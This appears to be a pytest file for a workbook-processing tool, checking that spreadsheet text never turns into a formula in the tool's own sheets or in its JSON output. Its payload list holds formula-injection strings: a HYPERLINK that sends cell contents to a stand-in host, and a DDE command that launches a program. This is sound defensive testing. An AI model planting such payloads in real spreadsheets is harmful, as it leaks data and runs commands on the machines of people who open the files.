"""Text from a workbook never becomes a formula: not in the tool's sheets, not in JSON output.

(The tool writes no CSV; its only machine-readable output is the JSON of `--format json`.)
"""
from __future__ import annotations

import json

from click.testing import CliRunner
from lxml import etree

from support.builders import JELBUK_SETTINGS, filled
from sakip_xl.cli import main
from sakip_xl.engine import compute, tool_sheet_names
from sakip_xl.xlsx.cells import sheet_part
from sakip_xl.xlsx.opc import Package
from sakip_xl.review.reviu import sheet_cells

PAYLOADS = [
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]


def _rows():
    rows = []
    for i, p in enumerate(PAYLOADS):
        rows.append({"sasaran": p, "indikator": p, "satuan": p, "polaritas": p,       # PK-007 quotes the polaritas
                     "target": p if i % 2 else 100, "realisasi": 50})                 # PK-001 quotes the target
    return rows


def _strings_holding_payloads(data: bytes, sheets: list[str]):
    pkg = Package(data)
    hits = []
    for sheet in sheets:
        cells = sheet_cells(pkg, sheet)
        root = etree.fromstring(pkg.read(sheet_part(pkg, sheet)))
        kinds = {el.get("r"): el.get("t") for el in root.iter("{*}c")}
        for ref, state in cells.items():
            if isinstance(state.value, str) and any(p in state.value for p in PAYLOADS):
                hits.append((sheet, ref, state.formula, kinds.get(ref), state.value))
        formulas = " ".join(state.formula for state in cells.values() if state.formula)
        for p in PAYLOADS:
            assert p not in formulas, f"{p!r} inside a formula of {sheet}"
    return hits


def test_workbook_text_is_never_a_formula_in_the_tool_sheets(tmp_path):
    settings = dict(JELBUK_SETTINGS, instansi=PAYLOADS[0])
    src = filled(tmp_path, _rows(), settings)
    out = tmp_path / "hasil.xlsx"
    report = compute(src, out)
    quoted = {f.code for f in report.findings if any(p in f.message for p in PAYLOADS)}
    assert {"PK-001", "PK-007"} <= quoted
    data = out.read_bytes()
    own = [s for s in tool_sheet_names(data) if s not in report.analysis.sheet_names]   # the tool's sheets
    assert {"Capaian", "Pemeriksaan"} <= set(own)
    hits = _strings_holding_payloads(data, own)
    seen = {p for *_, v in hits for p in PAYLOADS if p in v}
    assert seen == set(PAYLOADS)                          # every payload was written somewhere...
    for sheet, ref, formula, kind, value in hits:         # ...and only ever as a text cell
        assert formula is None, (sheet, ref, formula)
        assert kind in ("s", "str", "inlineStr"), (sheet, ref, kind)


def _walk(node, strings):
    if isinstance(node, dict):
        for k, v in node.items():
            strings.append(k)
            _walk(v, strings)
    elif isinstance(node, list):
        for v in node:
            _walk(v, strings)
    elif isinstance(node, str):
        strings.append(node)
    else:
        assert not any(p in repr(node) for p in PAYLOADS)


def test_json_output_holds_workbook_text_only_as_json_strings(tmp_path):
    src = filled(tmp_path, _rows())
    for args in (["check", str(src), "--format", "json"],
                 ["compute", str(src), "-o", str(tmp_path / "h.xlsx"), "--format", "json"]):
        res = CliRunner().invoke(main, args)
        assert res.exit_code in (0, 1), res.output
        data = json.loads(res.stdout)
        strings: list[str] = []
        _walk(data, strings)
        found = {p for p in PAYLOADS if any(p in s for s in strings)}
        assert found >= {PAYLOADS[1], PAYLOADS[3]}          # the polaritas payloads are quoted in messages
        assert all(isinstance(f["message"], str) for f in data)
